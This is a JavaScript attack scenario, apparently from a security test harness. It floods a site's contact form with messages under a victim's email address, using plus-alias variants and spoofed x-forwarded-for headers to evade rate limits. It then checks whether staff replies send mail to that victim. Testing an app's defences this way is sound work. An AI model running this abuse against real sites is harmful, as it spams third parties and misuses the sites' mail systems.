const victim = 'victim@mail.example';
const messages = 60;

/**
 * Leaves contact messages under the address of another person, in several spellings and from several networks. The
 * staff cannot know and answer each. Every answer used to be a mail to that address.
 */
export const attack = {
  name: 'mail to others',
  async run({ base, signal, cookie }) {
    const { origin } = new URL(base);
    const post = (path, body, headers) =>
      fetch(base + path, {
        method: 'POST',
        headers: { origin, 'content-type': 'application/json', ...headers },
        body: JSON.stringify(body),
      });
    for (let count = 0; count < messages && !signal.aborted; count++) {
      const email = victim.replace('@', count % 2 ? `+${count}@` : '@');
      const message = {
        fullName: `A ${count}`,
        email,
        country: 'Ghana',
        message: `Please send a price, ${count}.`,
      };
      await post('/api/contact', message, { 'x-forwarded-for': `10.66.5.${count}` });
    }
    const asked = await (await fetch(`${base}/api/contact`, { headers: { cookie } })).json();
    const ours = asked.filter(({ email }) => email.startsWith('victim'));
    for (const { id } of ours)
      await post(`/api/contact/${id}/reply`, { replyMessage: 'An answer' }, { cookie });
    const mails = await (await fetch(`${base}/api/mail?limit=100`, { headers: { cookie } })).json();
    const to = mails.filter(({ recipient }) => recipient.startsWith('victim'));
    const failed = to.filter(({ status }) => status === 'failed').length;
    return `${ours.length} messages answered; ${to.length - failed} mails go out, ${failed} wait for the staff`;
  },
};
